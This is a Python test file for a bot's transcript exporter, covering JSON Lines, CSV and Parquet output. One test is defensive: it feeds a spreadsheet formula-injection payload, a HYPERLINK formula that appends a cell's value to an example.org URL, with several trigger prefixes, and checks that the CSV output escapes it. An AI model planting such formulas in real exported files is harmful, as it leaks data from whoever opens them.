"""What was asked and answered, as files that other programs read."""

import csv
import io
import json
import sys
from collections.abc import Iterator
from dataclasses import asdict
from datetime import UTC, datetime

import pyarrow.parquet as pq  # type: ignore[import-untyped]  # it ships no types
import pytest

from bot.conversations.owners.export import ExportError, Form, export
from bot.conversations.owners.parquet import ROW_GROUP
from bot.conversations.owners.transcripts import (
    Moment,
    TranscribedSentence,
    Transcript,
    transcribed,
)

MOMENT = datetime(2026, 11, 25, 12, 30, 0, 250_000, UTC)


SENTENCES = (
    TranscribedSentence(
        "Ja, größer 👍", None, "shown", None, (Moment("radio", 62), Moment("radio", 70))
    ),
    TranscribedSentence("", '=The "host" left.', "dropped", "coverage", ()),
)
REASONS = ("=too short", 'No "host",\nno date.')


def exchange(number: int, person: str | None = "ann") -> Transcript:
    """Return an exchange whose texts have all that a format may stumble over."""
    question, answer = 'Is "cost", as they say,\nkey?', "Ja, größer 👍"
    usage = ("scripted", 4000, 90, 0.002, 1.5, 700.25)
    return Transcript._make(
        [
            *(number, person, "here", "discord", MOMENT.timestamp()),
            *(question, "answered", answer, *usage, SENTENCES, REASONS),
        ]
    )


def exported(form: Form, *exchanges: Transcript) -> io.BytesIO:
    """Return the file of some exchanges, at its start."""
    file = io.BytesIO()
    export(exchanges, form, file)
    file.seek(0)
    return file


def test_json_lines_give_back_what_was_kept() -> None:
    """One object a line, whatever stands in the texts."""
    kept = [exchange(1), exchange(2, None)]
    lines = exported("jsonl", *kept).read().decode().splitlines()
    objects = [json.loads(line) for line in lines]
    sentences = [transcribed(json.dumps(each.pop("sentences"))) for each in objects]
    reasons = [tuple(each.pop("reasons")) for each in objects]
    assert [
        Transcript(**each, sentences=own, reasons=given)
        for each, own, given in zip(objects, sentences, reasons, strict=True)
    ] == kept


def test_csv_gives_back_the_texts_that_were_kept() -> None:
    """One row each, under the same names."""
    text = io.StringIO(exported("csv", exchange(1)).read().decode(), newline="")
    (row,) = csv.DictReader(text)
    assert tuple(row) == Transcript._fields
    assert (row["question"], row["answer"]) == (exchange(1).question, exchange(1).answer)
    assert transcribed(row["sentences"]) == SENTENCES
    assert tuple(json.loads(row["reasons"])) == REASONS


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_text_is_a_formula_to_a_spreadsheet(first: str) -> None:
    """What somebody asks is not computed on the machine of whoever opens the file."""
    said = f'{first}HYPERLINK("https://example.org?"&A1)'
    asked = exchange(1)._replace(question=said, answer=said, cost=-1.0)
    text = io.StringIO(exported("csv", asked).read().decode(), newline="")
    (row,) = csv.DictReader(text)
    assert (row["question"], row["answer"], row["cost"]) == (f"'{said}", f"'{said}", "-1.0")
    assert json.loads(exported("jsonl", asked).read())["question"] == said
    assert pq.read_table(exported("parquet", asked)).column("question").to_pylist() == [said]


def test_parquet_gives_back_what_was_kept_with_its_types() -> None:
    """Numbers are numbers, and moments are moments in UTC."""
    kept = [exchange(1), exchange(2, None)]
    rows = pq.read_table(exported("parquet", *kept)).to_pylist()
    sentences = [
        {**asdict(each), "moments": [asdict(moment) for moment in each.moments]}
        for each in SENTENCES
    ]
    changed = {"asked_at": MOMENT, "sentences": sentences, "reasons": [*REASONS]}
    assert rows == [each._asdict() | changed for each in kept]
    assert rows[0]["asked_at"].utcoffset().total_seconds() == 0


def test_an_empty_log_is_a_table_without_rows() -> None:
    """Its columns are there all the same."""
    table = pq.read_table(exported("parquet"))
    assert (table.num_rows, tuple(table.column_names)) == (0, Transcript._fields)


def test_a_large_log_is_written_in_groups() -> None:
    """No more than one group of exchanges is held while they are read."""
    groups_at: list[int] = []
    file = io.BytesIO()

    def many() -> Iterator[Transcript]:
        for number in range(2 * ROW_GROUP + 1):
            if number % ROW_GROUP == 0:
                groups_at.append(file.tell())
            yield exchange(number)

    export(many(), "parquet", file)
    assert groups_at == sorted(set(groups_at))
    assert pq.ParquetFile(file).num_row_groups == 3


def test_without_pyarrow_the_extra_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    """Who lacks it reads what to install; nothing is written."""
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.delitem(sys.modules, "bot.conversations.owners.parquet")
    file = io.BytesIO()
    with pytest.raises(
        ExportError, match=r"install the extra \(.venv/bin/pip install '\.\[parquet\]'\)"
    ):
        export([exchange(1)], "parquet", file)
    assert file.getvalue() == b""
